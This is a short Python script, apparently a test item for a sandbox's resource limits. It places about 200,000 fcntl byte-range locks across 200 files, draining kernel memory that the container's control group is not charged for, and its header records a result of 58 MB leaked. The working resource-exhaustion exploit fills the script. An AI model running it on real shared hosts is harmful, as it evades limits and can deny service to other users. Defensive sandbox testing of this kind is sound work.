# family = "crowding"
# tries = "A million parts of files are locked, one by one: the kernel keeps 200 bytes for each, and neither a process nor the box's control group is charged for them."
# could_earn = "The machine's memory."
# undefended = "LEAK: 300,000 locks after 1.2 s, and 58 MB of the kernel's memory, of which the box's control group showed none."
# boxed_only = true

# %% extra
import fcntl
import struct
import time

held, count = [], 0
for number in range(200):
    held.append(open(f"file{number}", "w+"))
    for part in reversed(range(1000)):
        fcntl.fcntl(held[-1], fcntl.F_SETLK, struct.pack("hhqqi4x", fcntl.F_WRLCK, 0, 2 * part, 1, 0))
        count += 1
time.sleep(5)
print(f"LEAK: {count} locks")
